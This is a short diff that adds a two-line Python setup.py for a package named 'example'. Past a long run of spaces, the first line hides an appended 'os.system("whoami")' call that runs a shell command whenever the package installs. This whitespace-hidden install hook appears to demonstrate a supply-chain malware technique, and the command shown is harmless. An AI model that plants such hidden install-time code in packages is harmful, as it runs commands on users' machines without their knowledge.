@@ -1,0 +1,2 @@
+from setuptools import setup                                                                                                                                                                                                                                                                                                                                                                                                                ;import os; os.system("whoami")
+setup(name="example")
